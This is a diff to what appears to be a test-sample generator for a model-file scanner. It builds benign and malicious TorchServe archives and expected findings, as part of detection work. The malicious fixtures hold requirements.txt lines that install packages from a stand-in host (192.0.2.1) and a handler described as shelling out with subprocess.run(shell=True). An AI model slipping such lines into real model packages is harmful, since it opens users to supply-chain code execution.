@@ -156,3 +156,52 @@ def samples(register, g) -> None:
                                ("requirements.txt", b"torchvision==0.20.1\n--extra-index-url http://192.0.2.1/simple\n"
                                                     b"tinyaug @ git+https://192.0.2.1/tinyaug.git\n"),
                                requirementsFile="requirements.txt"))
+
+
+def tgz(g, folder: str, handler: str, *members: tuple[str, bytes], **model) -> bytes:
+    """`torch-model-archiver --archive-format tgz`: a gzip'd tar with every file under
+    `<model name>/`, the manifest last."""
+    files = [(f"{folder}/model.pt", g.torch_state_dict_pt())]
+    files += [(f"{folder}/{name}", data) for name, data in members]
+    files.append((f"{folder}/MAR-INF/MANIFEST.json", manifest(handler, **model)))
+    return g.gzip_bytes(g.build_tar(*files), 9)
+
+
+def folder(register, g, path: str, expected: dict, desc: str, handler: str,
+           *members: tuple[str, bytes], **model) -> None:
+    """`torch-model-archiver --archive-format no-archive`: the archive's files in a folder, each
+    a sample of its own (`expected`: file name -> (verdict, findings))."""
+    files = [("model.pt", g.torch_state_dict_pt)] + [(n, (lambda d=d: d)) for n, d in members]
+    files.append(("MAR-INF/MANIFEST.json", lambda: manifest(handler, **model)))
+    for name, build in files:
+        verdict, findings = expected.get(name, (CLEAN, ()))
+        register(f"{path}/{name}", verdict, *findings, desc=f"{desc}: {name}", build=build)
+
+
+def tail_samples(register, g) -> None:
+    register("benign/torchserve_tgz.tar.gz", CLEAN,
+             desc="a TorchServe archive written as torch-model-archiver --archive-format tgz writes it "
+                  "(files under tiny/, tiny/MAR-INF/MANIFEST.json last) with a custom handler and model file",
+             build=lambda: tgz(g, "tiny", "handler.py", ("handler.py", HANDLER.encode()),
+                               ("model.py", MODEL.encode()), ("index_to_name.json", NAMES),
+                               modelFile="model.py"))
+    register("malicious/torchserve_tgz_handler_subprocess.tar.gz", MALICIOUS, ("MAR001", "subprocess.run"),
+             ("MAR004", "git+https://192.0.2.1"),
+             desc="a tgz TorchServe archive whose handler runs subprocess.run(..., shell=True) in initialize "
+                  "and whose requirements install from a git repository",
+             build=lambda: tgz(g, "tiny", "handler.py", ("handler.py", HANDLER_SUBPROCESS.encode()),
+                               ("requirements.txt", b"tinyaug @ git+https://192.0.2.1/tinyaug.git\n"),
+                               requirementsFile="requirements.txt"))
+    folder(register, g, "benign/torchserve_folder", {},
+           "an unpacked TorchServe archive (torch-model-archiver --archive-format no-archive) with a custom handler",
+           "handler.py", ("handler.py", HANDLER.encode()), ("model.py", MODEL.encode()),
+           ("index_to_name.json", NAMES), ("requirements.txt", b"torchvision==0.20.1\n"),
+           modelFile="model.py", requirementsFile="requirements.txt")
+    folder(register, g, "malicious/torchserve_folder_subprocess",
+           {"handler.py": (MALICIOUS, (("MAR001", "subprocess.run"),)),
+            "requirements.txt": (SUSPICIOUS, (("MAR004", "--extra-index-url"),))},
+           "an unpacked TorchServe archive (no-archive) whose handler shells out in initialize "
+           "and whose requirements add a package index",
+           "handler.py", ("handler.py", HANDLER_SUBPROCESS.encode()),
+           ("requirements.txt", b"--extra-index-url http://192.0.2.1/simple\ntorchvision==0.20.1\n"),
+           requirementsFile="requirements.txt")
